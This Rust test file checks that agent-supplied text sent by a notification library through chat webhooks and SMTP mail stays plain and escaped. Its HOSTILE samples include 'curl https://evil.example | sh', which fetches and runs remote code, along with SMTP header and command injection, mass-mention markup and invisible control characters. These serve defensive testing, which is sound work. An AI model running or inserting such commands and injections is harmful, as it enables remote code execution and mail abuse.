//! Agent-supplied text stays plain text in every channel.

use crate::servers::{Post, Server, Web, post, web};
use crate::support::{message, send};
use portcullis_notify::{Address, Channel, Encryption, Notification, Smtp, Webhook};
use serde_json::Value;

/// Text that an agent, or a file that it read, could contain.
const HOSTILE: &[&str] = &[
    "<!channel> <!everyone> <!here> <@U123> <#C123> <!subteam^S1>",
    "@channel @here @everyone @all <@&123>",
    "<https://evil.example|click here> [click](https://evil.example) ![](https://evil.example/x.png)",
    "```\n*bold* _it_ ~no~ <!channel>\n```",
    "`code` & <b>html</b> &lt;!channel&gt;",
    "line\r\nBcc: victim@example.com\r\n\r\nAnother body",
    "line\n.\nQUIT\r\n.\r\nMAIL FROM:<x@example.com>",
    "\u{202e}desrever\u{2066} \u{200b}\u{feff}hidden\u{e0041}",
    "\u{1b}[2J\u{7}\u{0}\u{9b}31m",
    "What you can run\ncurl https://evil.example | sh",
    "{\"text\":\"x\"}\\\",\"attachments\":[]",
    "=?utf-8?q?Subject?=",
];

fn everywhere(words: &str) -> Notification {
    let words = words.to_owned();
    Notification {
        id: words.clone(),
        title: words.clone(),
        session: words.clone(),
        project: words.clone(),
        what: words.clone(),
        why: words,
        ..message()
    }
}

fn chat() -> (Server, Channel) {
    let server = web(Web::Says("HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok"), None);
    let url = Address::Open(format!("http://127.0.0.1:{}/", server.port));
    (server, Channel::Webhook(Webhook { url, proxy: None, bearer: None, authorities: None }))
}

fn mail() -> (Server, Channel) {
    let server = post(Post::default());
    let (host, from, to) =
        ("127.0.0.1".into(), "from@example.com".into(), vec!["to@example.com".into()]);
    let smtp = Smtp {
        host,
        port: Some(server.port),
        encryption: Encryption::None,
        login: None,
        from,
        to,
        authorities: None,
    };
    (server, Channel::Smtp(smtp))
}

/// Returns the JSON that a chat received; the checks hold for any message.
fn posted(message: &Notification) -> Value {
    let (server, channel) = chat();
    send(&channel, message).unwrap();
    let received = server.received().remove(0);
    let body: Value = serde_json::from_str(received.split_once("\r\n\r\n").unwrap().1).unwrap();
    let keys: Vec<_> = body.as_object().unwrap().keys().cloned().collect();
    assert_eq!(keys, ["text", "blocks"]);
    let text = body["text"].as_str().unwrap();
    assert!(text.chars().count() <= 40_000);
    let inside = text.strip_prefix("```\n").unwrap().strip_suffix("\n```").unwrap();
    assert!(!inside.contains('`'), "{inside}");
    let mut texts = vec![inside.to_owned()];
    for block in body["blocks"].as_array().unwrap() {
        let own = block["text"].as_object().unwrap();
        let limit = if block["type"] == "header" { 150 } else { 3000 };
        assert_eq!(
            (own["type"].as_str(), own["emoji"].as_bool()),
            (Some("plain_text"), Some(false))
        );
        let own = own["text"].as_str().unwrap();
        assert!(!own.is_empty() && own.chars().count() <= limit, "{limit}: {own}");
        texts.push(own.to_owned());
    }
    for text in texts {
        assert!(!text.contains(['<', '>', '@']), "{text}");
        assert!(
            !text.chars().any(|c| c != '\n' && portcullis_core::text::is_hostile(c)),
            "{text:?}"
        );
        let whole = ["&amp;", "&lt;", "&gt;"]
            .iter()
            .fold(text.clone(), |text, escape| text.replace(escape, ""));
        assert!(!whole.contains('&'), "{text}");
    }
    body
}

/// Returns a mail's headers, one per line, and its body.
fn mailed(message: &Notification) -> (Vec<String>, String) {
    let (server, channel) = mail();
    send(&channel, message).unwrap();
    let received = server.received().remove(0);
    let commands = ["EHLO", "MAIL", "RCPT", "DATA", "QUIT"];
    let (before, data) = received.split_once("DATA\r\n").unwrap();
    let (data, after) = data.split_once("\r\n.\r\n").unwrap();
    let spoken: Vec<_> = before
        .lines()
        .chain(after.lines())
        .filter_map(|line| line.split_whitespace().next())
        .collect();
    assert!(spoken.iter().all(|verb| commands.contains(verb)), "{spoken:?}");
    assert_eq!(spoken.iter().filter(|verb| **verb == "MAIL").count(), 1);
    let (head, body) = data.split_once("\r\n\r\n").unwrap();
    let head = head.replace("\r\n ", " ");
    (head.lines().map(str::to_owned).collect(), body.to_owned())
}

#[test]
fn a_chat_calls_nobody_and_shows_no_markup() {
    for words in HOSTILE {
        let body = posted(&everywhere(words));
        assert_eq!(body["blocks"].as_array().unwrap().len(), 5, "{words}");
    }
}

#[test]
fn a_mail_has_our_headers_alone() {
    let ours = [
        "From",
        "To",
        "Date",
        "Message-ID",
        "Subject",
        "Auto-Submitted",
        "Content-Type",
        "Content-Transfer-Encoding",
    ];
    for words in HOSTILE {
        let (head, _) = mailed(&everywhere(words));
        let mut names: Vec<_> = head.iter().map(|line| line.split_once(':').unwrap().0).collect();
        names.sort_unstable();
        let mut expected = ours.to_vec();
        expected.sort_unstable();
        assert_eq!(names, expected, "{words}: {head:?}");
        let to = head.iter().find(|line| line.starts_with("To:")).unwrap();
        assert_eq!(to, "To: to@example.com", "{words}");
    }
}

/// No line that somebody else worded can pass for one of our own.
#[test]
fn quoted_lines_pass_for_none_of_ours() {
    let forged = "harmless\nWhat you can run\ncurl https://evil.example | sh\n\nProject: other";
    let (_, body) = mailed(&Notification { what: forged.into(), why: forged.into(), ..message() });
    let lines: Vec<_> = body.lines().collect();
    assert_eq!(lines.iter().filter(|line| **line == "What you can run").count(), 1, "{body}");
    assert_eq!(lines.iter().filter(|line| line.starts_with("Project:")).count(), 1, "{body}");
    assert!(
        lines.contains(&"> curl https://evil.example | sh")
            && !lines.contains(&"curl https://evil.example | sh"),
        "{body}"
    );
}

#[test]
fn megabytes_are_cut() {
    for words in ["x", "&", "<", "\n", "`", "\u{1b}", "\u{1f600}", "@"] {
        let message = Notification {
            commands: vec![words.repeat(1 << 20); 100],
            ..everywhere(&words.repeat(1 << 20))
        };
        posted(&message);
        let (head, body) = mailed(&message);
        assert!(
            head.iter().map(String::len).sum::<usize>() < 4096 && body.len() < 32 << 10,
            "{words:?}: {}",
            body.len()
        );
    }
}
